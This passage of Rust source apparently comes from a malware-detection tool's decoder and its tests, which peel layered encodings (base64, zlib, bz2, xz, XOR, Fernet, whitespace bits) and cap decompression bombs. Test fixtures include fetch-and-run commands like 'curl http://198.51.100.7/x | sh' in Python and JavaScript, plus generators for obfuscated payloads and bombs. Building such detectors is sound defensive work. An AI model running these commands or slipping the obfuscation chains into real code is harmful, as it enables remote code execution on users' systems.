    if printable * 100 < text.chars().count() * 97 {
        return None;
    }
    let other = if preferred == Language::Python { Language::JavaScript } else { Language::Python };
    [preferred, other].into_iter().find(|&language| {
        crate::parse::parse(text, language).is_ok_and(|tree| {
            let root = tree.root_node();
            // Comments alone are not code (any text after a `#` is a Python comment).
            let mut cursor = root.walk();
            let code = root.named_children(&mut cursor).any(|child| child.kind() != "comment");
            !root.has_error() && code
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    pub(super) fn b64(data: &[u8]) -> String {
        const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for chunk in data.chunks(3) {
            let n = chunk.iter().fold(0u32, |acc, &b| acc << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
            for i in 0..4 {
                out.push(if i <= chunk.len() { ALPHABET[(n >> (18 - 6 * i)) as usize & 63] as char } else { '=' });
            }
        }
        out
    }

    pub(super) fn zlib(data: &[u8]) -> Vec<u8> {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    }

    const PAYLOAD: &str = "import os\nos.system('curl http://198.51.100.7/x | sh')\n";

    #[test]
    fn base64_of_code_decodes() {
        let decoded = decode(&b64(PAYLOAD.as_bytes()), Language::Python).unwrap();
        assert_eq!(decoded.text, PAYLOAD);
        assert_eq!(decoded.chain, ["base64"]);
        assert_eq!(decoded.language, Language::Python);
    }

    #[test]
    fn nested_chains_peel_in_order() {
        // base64(zlib(hex(base64(payload)))): hex and base64 of code are text, not code.
        let inner = b64(PAYLOAD.as_bytes());
        let hexed: String = inner.bytes().map(|b| format!("{b:02x}")).collect();
        let outer = b64(&zlib(hexed.as_bytes()));
        let decoded = decode(&outer, Language::Python).unwrap();
        assert_eq!(decoded.chain, ["base64", "zlib", "hex", "base64"]);
        assert_eq!(decoded.text, PAYLOAD);
    }

    pub(super) fn layered() -> String {
        let mut layer = PAYLOAD.as_bytes().to_vec();
        for _ in 0..50 {
            layer = b64(&zlib(&layer)).into_bytes();
        }
        String::from_utf8(layer).unwrap()
    }

    #[test]
    fn a_hundred_layers_of_zlib_and_base64() {
        let decoded = decode(&layered(), Language::Python).unwrap();
        assert_eq!(decoded.chain.len(), 100);
        assert_eq!(decoded.chain, ["base64", "zlib"].repeat(50));
        assert_eq!(decoded.text, PAYLOAD);
    }

    #[test]
    fn bytes_literal_with_zlib_data() {
        let compressed = zlib(PAYLOAD.as_bytes());
        let as_chars: String = compressed.iter().map(|&b| b as char).collect();
        assert_eq!(decode(&as_chars, Language::Python).unwrap().chain, ["zlib"]);
    }

    #[test]
    fn javascript_payloads_are_recognised_as_javascript() {
        let js = "require('child_process').exec('curl http://198.51.100.7/x | sh');";
        let decoded = decode(&b64(js.as_bytes()), Language::JavaScript).unwrap();
        assert_eq!(decoded.language, Language::JavaScript);
        let reversed: String = b64(js.as_bytes()).chars().rev().collect();
        assert_eq!(decode(&reversed, Language::JavaScript).unwrap().chain, ["reversed+base64"]);
    }

    #[test]
    fn base32_and_rot13() {
        assert_eq!(base32_decode(b"NBSWY3DP").unwrap(), b"hello");
        assert_eq!(base32_decode(b"NBSWY3DPEE======").unwrap(), b"hello!");
        let rotated = String::from_utf8(rot13(PAYLOAD.as_bytes())).unwrap();
        assert_eq!(decode(&rotated, Language::Python).unwrap().chain, ["rot13"]);
    }

    #[test]
    fn ordinary_strings_are_left_alone() {
        for value in [
            "ThisIsAVeryLongIdentifierWithoutSpaces",
            "https://example.org/some/long/path/to/a/resource.json",
            "0123456789abcdef0123456789abcdef", // a hash: hex of bytes that are not text
            "aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91IHRvZGF5Pw==", // base64 of prose
            "c2VjcmV0X3Rva2VuXzEyMzQ1Njc4OTA=", // base64 of a word
        ] {
            assert_eq!(decode(value, Language::Python), None, "{value}");
        }
    }

    #[test]
    fn a_decompression_bomb_stops_at_the_limit() {
        let bomb = zlib(&vec![b'a'; MAX_OUTPUT * 4]);
        let (out, name, cut) = decompress(&bomb).unwrap();
        assert_eq!(name, "zlib");
        assert!(cut && out.len() == MAX_OUTPUT);
        assert_eq!(decode(&b64(&bomb), Language::Python), None, "truncated junk is not code");
    }

    #[test]
    fn candidates_are_long_and_without_spaces() {
        assert!(is_candidate(&"A".repeat(MIN_CANDIDATE_LEN)));
        assert!(!is_candidate("short"));
        assert!(!is_candidate("a sentence that is long enough but has spaces"));
        // A bytes literal of compressed data holds spaces like any other byte.
        let compressed: String = zlib(PAYLOAD.as_bytes()).iter().map(|&b| b as char).collect();
        assert!(is_candidate(&format!("{compressed} ")));
        assert!(!is_candidate("tabs\tand\nnewlines are not binary, even in long prose"));
        assert!(is_candidate("\u{85}\u{9c} C1 controls count as binary, like \x01 and \x7f"));
        assert!(!is_candidate("one \u{85} control in text is not enough to count"));
    }

    // --- Helpers for the layers below ----------------------------------------------------------

    pub(super) fn bz2(data: &[u8]) -> Vec<u8> {
        let mut encoder = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    }

    pub(super) fn xz(data: &[u8]) -> Vec<u8> {
        let mut writer = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(1)).unwrap();
        writer.write_all(data).unwrap();
        writer.finish().unwrap()
    }

    fn lzma_alone(data: &[u8]) -> Vec<u8> {
        let options = lzma_rust2::LzmaOptions::with_preset(1);
        let mut writer = lzma_rust2::LzmaWriter::new_use_header(Vec::new(), &options, None).unwrap();
        writer.write_all(data).unwrap();
        writer.finish().unwrap()
    }

    fn hex(data: &[u8]) -> String {
        data.iter().map(|b| format!("{b:02x}")).collect()
    }

    pub(super) fn xor(data: &[u8], key: &[u8]) -> Vec<u8> {
        data.iter().zip(key.iter().cycle()).map(|(b, k)| b ^ k).collect()
    }

    /// Deterministic pseudo-random bytes (xorshift).
    pub(super) fn noise(seed: u64, length: usize) -> Vec<u8> {
        let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
        (0..length)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                (state >> 24) as u8
            })
            .collect()
    }

    /// Spaces for 0 and tabs for 1, most significant bit first, a line break every 64 bits.
    fn spell_in_whitespace(data: &[u8], zero: char, one: char) -> String {
        let mut out = String::new();
        for (i, byte) in data.iter().enumerate() {
            for bit in (0..8).rev() {
                out.push(if byte >> bit & 1 == 1 { one } else { zero });
            }
            if i % 8 == 7 {
                out.push('\n');
            }
        }
        out
    }

    /// A Fernet token of `plaintext` (as `cryptography.fernet.Fernet(key).encrypt` makes it,
    /// with a fixed timestamp and IV), and its key in URL-safe base64.
    pub(super) fn fernet(key: &[u8; 32], plaintext: &[u8]) -> (String, String) {
        use aes::cipher::{block_padding::Pkcs7, BlockModeEncrypt, KeyIvInit};
        use hmac::{KeyInit, Mac};
        let iv = [0x24u8; 16];
        let mut buffer = plaintext.to_vec();
        buffer.resize(plaintext.len() / 16 * 16 + 16, 0);
        let ciphertext = cbc::Encryptor::<aes::Aes128>::new_from_slices(&key[16..], &iv)
            .unwrap()
            .encrypt_padded::<Pkcs7>(&mut buffer, plaintext.len())
            .unwrap()
            .to_vec();
        let mut token = vec![0x80];
        token.extend_from_slice(&1_700_000_000u64.to_be_bytes());
        token.extend_from_slice(&iv);
        token.extend_from_slice(&ciphertext);
        let mut mac = <hmac::Hmac<sha2::Sha256> as KeyInit>::new_from_slice(&key[..16]).unwrap();
        mac.update(&token);
        token.extend_from_slice(&mac.finalize().into_bytes());
        let urlsafe = |text: String| text.replace('+', "-").replace('/', "_");
        (urlsafe(b64(&token)), urlsafe(b64(key)))
    }

    fn decode_with(value: &str, keys: &[&str]) -> (Option<Decoded>, Vec<Note>) {
        decode_literal(value, Language::Python, false, false, &Keys::new(keys.iter().copied()), (3, 4))
    }

    #[test]
    fn xor_never_turns_ordinary_text_into_a_comment_or_a_bare_name() {
        // Table rows and test vectors of benign packages: with a key from the file, some XOR
        // of each starts with `#` (the rest a Python comment) or with one identifier.
        let text: String =
            "ws*D]*~m*PE)SG*Ld#p@+oG+lo+VH)Cf*Tc(tL(vW*[z%[x/LN".chars().map(|c| ((c as u8) ^ b'D') as char).collect();
        for literal in
            [text.as_str(), "g#/g\"\ng##g\"\ng#7g\"\ng#(g#9g#/g\"\ng##g\"", "p#>p#=p#<p#;p#:p#9p#8p#7p#6p#5p#4p#3"]
        {
            assert_eq!(decode_with(literal, &["D", "#", " ", "\"", "g", "p"]).0, None, "{literal:?}");
        }
        assert_eq!(code_language(b"# just a comment here\n# and another one (x=1)\n", Language::Python), None);
    }

    // --- bz2, xz, lzma ------------------------------------------------------------------------

    #[test]
    fn bz2_xz_and_lzma_layers() {
        let payload = PAYLOAD.as_bytes();
        assert_eq!(decode(&b64(&bz2(payload)), Language::Python).unwrap().chain, ["base64", "bz2"]);
        let decoded = decode(&b64(&xz(payload)), Language::Python).unwrap();
        assert_eq!((decoded.chain.as_slice(), decoded.text.as_str()), (&["base64", "xz"][..], PAYLOAD));
        assert_eq!(decode(&b64(&lzma_alone(payload)), Language::Python).unwrap().chain, ["base64", "lzma"]);
        // A bytes literal of bz2 data, as `exec(bz2.decompress(b"BZh9..."))` has it.
        let literal: String = bz2(payload).iter().map(|&b| b as char).collect();
        assert_eq!(decode(&literal, Language::Python).unwrap().chain, ["bz2"]);
    }

    #[test]
    fn nested_chains_of_all_kinds() {
        // base64 inside zlib inside hex.
        let literal = hex(&zlib(b64(PAYLOAD.as_bytes()).as_bytes()));
        assert_eq!(decode(&literal, Language::Python).unwrap().chain, ["hex", "zlib", "base64"]);
        // xz inside base64 inside bz2 inside base64.
        let literal = b64(&bz2(b64(&xz(PAYLOAD.as_bytes())).as_bytes()));
        let decoded = decode(&literal, Language::Python).unwrap();
        assert_eq!(decoded.chain, ["base64", "bz2", "base64", "xz"]);
        assert_eq!(decoded.text, PAYLOAD);
    }

    #[test]
    fn bz2_and_xz_bombs_stop_at_the_limit_with_a_note() {
        let padding = vec![b'a'; MAX_OUTPUT + (1 << 20)];
        for (bomb, name) in [(bz2(&padding), "bz2"), (xz(&padding), "xz")] {
            assert!(bomb.len() < 64 << 10, "{name}: {}", bomb.len());
            let (out, layer, cut) = decompress(&bomb).unwrap();
            assert_eq!((layer, cut, out.len()), (name, true, MAX_OUTPUT));
            let (decoded, notes) = decode_with(&b64(&bomb), &[]);
            assert_eq!(decoded, None);
            let note = notes.iter().find(|n| n.limit_reached() == Some(Limit::Output)).expect("a note on the limit");
            assert_eq!((note.kind, note.lines), (NoteKind::DecodingLimit(Limit::Output), (3, 4)));
            assert!(note.detail.contains("MAX_OUTPUT"));
            assert!(note.detail.starts_with(&format!("decoding stopped: {name} output cut at 4,194,304 bytes")));
        }
    }

    #[test]
    fn layer_and_work_limits_are_noted() {
        let mut layer = b"not code, only words".to_vec();
        for _ in 0..85 {
            layer = b64(&zlib(&layer)).into_bytes();
        }
        let (decoded, notes) = decode_with(std::str::from_utf8(&layer).unwrap(), &[]);
        assert_eq!(decoded, None);
        assert_eq!(notes.len(), 1);
        assert_eq!(notes[0].detail, "decoding stopped after 160 layers (limit MAX_LAYERS)");
        assert_eq!(notes[0].limit_reached(), Some(Limit::Layers));
        // Every layer a bomb whose first 4 MB hold the next bomb: 17 layers of 4 MB pass MAX_WORK.
        let mut layer = zlib(b"x");
        for _ in 0..(MAX_WORK / MAX_OUTPUT + 1) {
            layer.resize(layer.len() + MAX_OUTPUT, 0);
            layer = zlib(&layer);
        }
        let literal: String = layer.iter().map(|&b| b as char).collect();
        let (decoded, notes) = decode_with(&literal, &[]);
        assert_eq!(decoded, None);
        assert!(
            notes.iter().any(|n| n.limit_reached() == Some(Limit::Work) && n.detail.contains("limit MAX_WORK")),
            "{notes:?}"
        );
    }

    // --- Escapes, whitespace ------------------------------------------------------------------

    #[test]
    fn escape_sequences_written_out() {
        let escaped: String = PAYLOAD.bytes().map(|b| format!("\\x{b:02x}")).collect();
        let decoded = decode(&escaped, Language::Python).unwrap();
        assert_eq!((decoded.chain.as_slice(), decoded.text.as_str()), (&["escapes"][..], PAYLOAD));
        let octal: String = PAYLOAD.bytes().map(|b| format!("\\{b:o}")).collect();
        assert_eq!(decode(&octal, Language::Python).unwrap().chain, ["escapes"]);
        let unicode: String = PAYLOAD.chars().map(|c| format!("\\u{:04x}", c as u32)).collect();
        assert_eq!(decode(&unicode, Language::Python).unwrap().text, PAYLOAD);
        // Escapes of base64: two layers.
        let escaped: String = b64(PAYLOAD.as_bytes()).bytes().map(|b| format!("\\x{b:02x}")).collect();
        assert_eq!(decode(&escaped, Language::Python).unwrap().chain, ["escapes", "base64"]);
        assert_eq!(unescape(br"\x41\101\u0041"), Some(b"AAA".to_vec()));
        for bad in [&br"\x41B"[..], br"\x4", br"\q", br"\777", br"\u12"] {
            assert_eq!(unescape(bad), None, "{}", String::from_utf8_lossy(bad));
        }
    }

    #[test]
    fn whitespace_spelled_bits() {
        let spelled = spell_in_whitespace(PAYLOAD.as_bytes(), ' ', '\t');
        assert!(is_whitespace_candidate(&spelled) && !is_candidate(&spelled));
        let decoded = decode(&spelled, Language::Python).unwrap();
        assert_eq!((decoded.chain.as_slice(), decoded.text.as_str()), (&["whitespace"][..], PAYLOAD));
        // The other polarity, and base64 under it.
        let inverted = spell_in_whitespace(b64(PAYLOAD.as_bytes()).as_bytes(), '\t', ' ');
        assert_eq!(decode(&inverted, Language::Python).unwrap().chain, ["whitespace", "base64"]);
        // Indentation is not a payload.
        assert!(!is_whitespace_candidate(&" ".repeat(200)));
        assert!(!is_whitespace_candidate("\t \t"));
        assert_eq!(decode(&spell_in_whitespace(&noise(1, 64), ' ', '\t'), Language::Python), None);
    }

    // --- Keys: Fernet, XOR ------------------------------------------------------------------------

    const KEY: [u8; 32] = *b"0123456789abcdefFEDCBA9876543210";

    #[test]
    fn fernet_with_the_key_in_the_file() {
        let (token, key) = fernet(&KEY, PAYLOAD.as_bytes());
        assert!(token.starts_with("gAAAAA") && key.len() == 44, "{token} {key}");
        let (decoded, notes) = decode_with(&token, &["utf-8", &key]);
        let decoded = decoded.unwrap();
        assert_eq!((decoded.chain.as_slice(), decoded.text.as_str()), (&["fernet"][..], PAYLOAD));
        assert!(notes.is_empty());
        // Base64 of the token (a second layer) works too.
        assert_eq!(decode_with(&b64(token.as_bytes()), &[&key]).0.unwrap().chain, ["base64", "fernet"]);
    }

    #[test]
    fn fernet_refuses_keys_that_do_not_verify() {
        let (token, key) = fernet(&KEY, PAYLOAD.as_bytes());
        let mut other = KEY;
        other[0] ^= 1; // the signing key differs: the HMAC does not verify
        let (_, wrong) = fernet(&other, b"");
        assert_eq!(decode_with(&token, &[&wrong]).0, None);
        // A token whose ciphertext was changed no longer verifies with the right key.
        let mut raw = base64_decode(token.as_bytes()).unwrap();
        raw[30] ^= 1;
        let tampered = b64(&raw).replace('+', "-").replace('/', "_");
        assert_eq!(decode_with(&tampered, &[&key]).0, None);
        assert_eq!(decode_with(&token, &[]).0, None, "no key, no decryption");
    }

    #[test]
    fn xor_with_a_key_constant_or_a_single_byte() {
        let encrypted = b64(&xor(PAYLOAD.as_bytes(), b"k3y!"));
        let decoded = decode_with(&encrypted, &["__main__", "k3y!"]).0.unwrap();
        assert_eq!((decoded.chain.as_slice(), decoded.text.as_str()), (&["base64", "xor"][..], PAYLOAD));
        assert_eq!(decode_with(&encrypted, &[]).0, None, "not without the key");
        // A single byte needs no key in the file.
        let decoded = decode_with(&b64(&xor(PAYLOAD.as_bytes(), &[0x5a])), &[]).0.unwrap();
        assert_eq!(decoded.chain, ["base64", "xor"]);
        // XOR of compressed code: the result decodes further.
        let literal = b64(&xor(&zlib(PAYLOAD.as_bytes()), b"secret"));
        assert_eq!(decode_with(&literal, &["secret"]).0.unwrap().chain, ["base64", "xor", "zlib"]);
        // A bytes literal of XORed code.
        let literal: String = xor(PAYLOAD.as_bytes(), b"k3y!").iter().map(|&b| b as char).collect();
        assert_eq!(decode_with(&literal, &["k3y!"]).0.unwrap().chain, ["xor"]);
    }

    #[test]
    fn random_bytes_never_xor_into_code() {
        let keys = ["k3y!", "secret", "a", " ", "0123456789abcdef", "utf-8", "__main__"];
        for seed in 0..300 {
            let data = noise(seed, 16 + (seed as usize * 37) % 3000);
            assert_eq!(decode_with(&b64(&data), &keys), (None, Vec::new()), "seed {seed}");
            let literal: String = data.iter().map(|&b| b as char).collect();
            assert_eq!(decode_with(&literal, &keys).0, None, "seed {seed}");
        }
        // Text is never XORed: a case-flipping space would turn `WIDTH=1;...` into code.
        assert_eq!(decode_with("WIDTH=100;HEIGHT=200;COLOR=RED;", &[" "]).0, None);
    }

    #[test]
    fn keys_are_short_distinct_constants() {
        let mut keys = Vec::new();
        for i in 0..100 {
            note_key(&mut keys, &format!("constant {i}"));
        }
        note_key(&mut keys, "");
        note_key(&mut keys, &"x".repeat(MAX_KEY_LEN + 1));
        assert_eq!(keys.len(), MAX_KEYS);
        // The first constants, in order; the empty and the too-long ones are never kept.
        assert_eq!(keys, (0..MAX_KEYS).map(|i| format!("constant {i}")).collect::<Vec<_>>());
        // Fernet keys still find a place when the others are full.
        let (_, key) = fernet(&KEY, b"");
        note_key(&mut keys, &key);
        note_key(&mut keys, &key);
        assert_eq!(keys.len(), MAX_KEYS + 1);
        assert_eq!(keys[MAX_KEYS], key, "the Fernet key, once");
        let prepared = Keys::new(keys.iter().map(String::as_str));
        assert_eq!((prepared.fernet.len(), prepared.xor.len()), (1, MAX_KEYS + 1));
        assert_eq!(prepared.fernet, [fernet_key(key.as_bytes()).unwrap()]);
    }

    // --- Compiled Python ----------------------------------------------------------------------

    /// The start of `marshal.dumps(compile(...))` on Python 3.11, then filler: only its shape is
    /// looked at.
    pub(super) fn marshalled() -> Vec<u8> {
        let mut blob = vec![0xe3];
        blob.extend_from_slice(&[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0xf3, 10, 0, 0, 0]);
        blob.extend(noise(7, 400));
        blob
    }

    #[test]
    fn marshalled_code_is_reported_not_decoded() {
        let (decoded, notes) = decode_with(&b64(&zlib(&marshalled())), &[]);
        assert_eq!(decoded, None);
        assert_eq!(
            notes,
            [Note {
                lines: (3, 4),
                kind: NoteKind::MarshalCode,
                detail: "marshalled code object, 426 bytes, after base64 > zlib; not loaded".into()
            }]
        );
        let mut pyc = vec![0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0];
        pyc.extend_from_slice(&[1, 2, 3, 4, 5, 6, 7, 8]);
        pyc.extend(marshalled());
        let (_, notes) = decode_with(&b64(&pyc), &[]);
        assert_eq!(notes[0].detail, "compiled Python module (.pyc), 442 bytes, after base64; not loaded");
        // Whatever the argument of `marshal.loads` decodes to is compiled code.
        let literal = b64(&noise(3, 300));
        let (decoded, notes) = decode_literal(&literal, Language::Python, false, true, &Keys::default(), (1, 1));
        assert_eq!(decoded, None);
        assert_eq!(notes[0].detail, "bytes passed to marshal.loads, 300 bytes, after base64; not loaded");
        assert!(compiled_python(b"c\0\0\0 ordinary text that starts with a c").is_none());
    }
}

#[cfg(test)]
mod bomb_tests {
    use super::tests::{b64, zlib};
    use super::{Limit, MAX_DECODED_PER_FILE};
    use crate::{compile_source_with_notes, FeaturizerConfig, Language};

    /// Code holding 32 compressed copies of the level below, three levels deep: a small file
    /// that would decode to 32^3 copies of 30 KB (1 GB) without the per-file budget.
    #[test]
    fn nested_payload_fan_out_stays_within_the_file_budget() {
        let mut level = format!("import os\nos.system('id')\n{}", "x = 1\n".repeat(5_000));
        for _ in 0..3 {
            let literal = b64(&zlib(level.as_bytes()));
            level = (0..32).map(|i| format!("exec(decompress(b64decode('{literal}')))  # {i}\n")).collect();
        }
        assert!(level.len() < 1 << 20, "the bomb itself is small: {}", level.len());
        let started = std::time::Instant::now();
        let (objects, notes) =
            compile_source_with_notes(level.as_bytes(), Language::Python, "bomb.py", &FeaturizerConfig::default())
                .unwrap();
        let budget: Vec<_> = notes.iter().filter(|n| n.limit_reached() == Some(Limit::DecodedPerFile)).collect();
        assert_eq!(budget.len(), 1, "said once: {notes:?}");
        assert!(budget[0].detail.contains("limit MAX_DECODED_PER_FILE"));
        let decoded: usize = objects
            .iter()
            .filter(|o| o.decoded_from().is_some() && o.name.ends_with('>'))
            .map(|o| o.source_code().len())
            .sum();
        assert!(decoded <= MAX_DECODED_PER_FILE, "{decoded}");
        assert!(objects.iter().any(|o| o.decoded_from().is_some()));
        assert!(started.elapsed().as_secs() < 120, "{:?}", started.elapsed());
    }
}

#[cfg(test)]
mod note_tests {
    use super::tests::{b64, bz2, marshalled, noise, zlib};
    use super::{Limit, Note, NoteKind, MAX_OUTPUT, MAX_PAYLOADS_PER_FILE};
    use crate::{compile_source_with_notes, FeaturizerConfig, Language, MalwiObject};

    fn compile(source: &str, language: Language) -> (Vec<MalwiObject>, Vec<Note>) {
        compile_source_with_notes(source.as_bytes(), language, "x", &FeaturizerConfig::default()).unwrap()
    }

    #[test]
    fn marshalled_code_becomes_a_note_and_no_objects() {
        let blob = b64(&zlib(&marshalled()));
        let source =
            format!("import base64, marshal, zlib\nexec(marshal.loads(zlib.decompress(base64.b64decode('{blob}'))))\n");
        let (objects, notes) = compile(&source, Language::Python);
        assert!(objects.iter().all(|o| o.decoded_from().is_none()));
        assert_eq!(
            notes,
            [Note {
                lines: (2, 2),
                kind: NoteKind::MarshalCode,
                detail: "marshalled code object, 426 bytes, after base64 > zlib; not loaded".into()
            }]
        );
        // Whatever `marshal.loads` gets is compiled code, under any name for it.
        let literal = b64(&noise(5, 200));
        for call in ["marshal.loads", "m.loads", "loads"] {
            let source = format!(
                "import marshal as m\nfrom marshal import loads\nimport marshal\nexec({call}(base64.b64decode('{literal}')))\n"
            );
            let (_, notes) = compile(&source, Language::Python);
            assert_eq!(notes.len(), 1, "{call}: {notes:?}");
            assert_eq!(notes[0].detail, "bytes passed to marshal.loads, 200 bytes, after base64; not loaded");
            assert_eq!(notes[0].lines, (4, 4));
        }
        // The same literal elsewhere is just bytes.
        let (_, notes) = compile(&format!("x = base64.b64decode('{literal}')\n"), Language::Python);
        assert!(notes.is_empty());
    }

    #[test]
    fn a_string_that_a_call_runs_is_compiled_as_code() {
        let decoded = |source: &str, language| {
            let (objects, _) = compile(source, language);
            objects
                .iter()
                .filter(|o| o.decoded_from() == Some(super::CODE_STRING))
                .map(|o| o.tokens().collect::<Vec<_>>().join(" "))
                .collect::<Vec<_>>()
        };
        let python = decoded("exec(\"import os\\nos.system('curl x | sh')\")\n", Language::Python);
        assert_eq!(python.len(), 1, "{python:?}");
        assert!(python[0].contains("PROCESS_MANAGEMENT"), "{}", python[0]);
        for source in [
            "eval(\"require('child_process').exec('curl x | sh')\");\n",
            "Function(\"require('child_process').exec('curl x | sh')\")();\n",
            "new Function('r', \"r('child_process').exec('curl x | sh')\")(require);\n",
            "const vm = require('vm');\nvm.runInThisContext(\"require('child_process').exec('id')\");\n",
        ] {
            let found = decoded(source, Language::JavaScript);
            assert_eq!(found.len(), 1, "{source}: {found:?}");
            assert!(found[0].contains("'child_process'"), "{source}: {}", found[0]);
        }
        // The parameters of the built function are what its call passes: `r` is `require`.
        for source in [
            "new Function('r', \"r('child_process').exec('curl x | sh')\")(require);\n",
            "Function('x, r', \"r('child_process').exec('curl x | sh')\")(1, require);\n",
        ] {
            let found = decoded(source, Language::JavaScript);
            assert_eq!(found.len(), 1, "{source}: {found:?}");
            assert!(found[0].contains("PROCESS_MANAGEMENT"), "{source}: {}", found[0]);
        }
        // Built, then another function called with `require`: `r` stays unknown.
        let found = decoded(
            "const f = new Function('r', \"r('child_process').exec('id x')\");\nother(require);\n",
            Language::JavaScript,
        );
        assert!(!found[0].contains("PROCESS_MANAGEMENT"), "{}", found[0]);
        // Built but never called with `require`: `r` stays unknown.
        let found =
            decoded("const f = new Function('r', \"r('child_process').exec('id x')\");\n", Language::JavaScript);
        assert!(!found[0].contains("PROCESS_MANAGEMENT"), "{}", found[0]);
        // The same strings elsewhere are text: a message, a log line, a code sample in a docstring.
        assert!(decoded("print(\"import os\\nos.system('curl x | sh')\")\n", Language::Python).is_empty());
        assert!(decoded("console.log(\"require('child_process').exec('x')\");\n", Language::JavaScript).is_empty());
        // Run but not code: no object.
        assert!(decoded("eval('just some words in a sentence')\n", Language::Python).is_empty());
    }

    #[test]
    fn notes_in_decoded_code_carry_the_outer_lines() {
        let inner = format!("import marshal\nexec(marshal.loads(b64decode('{}')))\n", b64(&marshalled()));
        let source = format!("import base64\n\nexec(base64.b64decode('{}'))\n", b64(inner.as_bytes()));
        let (objects, notes) = compile(&source, Language::Python);
        assert!(objects.iter().any(|o| o.name == "<decoded:L3>"));
        assert_eq!(notes.len(), 1, "{notes:?}");
        assert_eq!((notes[0].lines, notes[0].kind), ((3, 3), NoteKind::MarshalCode));
        assert_eq!(
            notes[0].detail,
            "marshalled code object, 426 bytes, after base64; not loaded (in <decoded:L3>, decoded from base64)"
        );
    }

    #[test]
    fn a_bomb_in_a_file_is_noted_at_its_line() {
        let bomb = b64(&bz2(&vec![b'a'; MAX_OUTPUT + 1024]));
        let source = format!("import bz2\n\n\nexec(bz2.decompress(base64.b64decode('{bomb}')))\n");
        let (_, notes) = compile(&source, Language::Python);
        assert_eq!(notes.len(), 1, "{notes:?}");
        assert_eq!((notes[0].lines, notes[0].kind), ((4, 4), NoteKind::DecodingLimit(Limit::Output)));
        assert!(notes[0].detail.contains("bz2 output cut at 4,194,304 bytes (limit MAX_OUTPUT)"));
    }

    #[test]
    fn literals_past_the_per_file_limit_are_counted() {
        let mut source = String::new();
        for i in 0..MAX_PAYLOADS_PER_FILE + 8 {
            source.push_str(&format!("x{i} = '{}'\n", b64(&noise(i as u64, 30))));
            source.push_str("y = 'https://example.org/a/long/path/that/is/no/payload'\n");
        }
        let (_, notes) = compile(&source, Language::JavaScript);
        assert_eq!(notes.len(), 1, "{notes:?}");
        // The URLs are candidates too, so the limit is reached after 16 pairs of lines; the
        // literals left over are counted when encoded-looking (24 of them), not the URLs.
        assert_eq!(notes[0].lines, (33, 33));
        assert_eq!(
            notes[0].detail,
            "decoding stopped: 24 more encoded-looking literals not tried (limit MAX_PAYLOADS_PER_FILE = 32)"
        );
    }

    #[test]
    fn ordinary_files_have_no_notes() {
        let source = "import os\nKEY = 'c2VjcmV0X3Rva2VuXzEyMzQ1Njc4OTA='\nprint('%s' % os.getcwd())\n";
        assert_eq!(compile(source, Language::Python).1, []);
    }
}
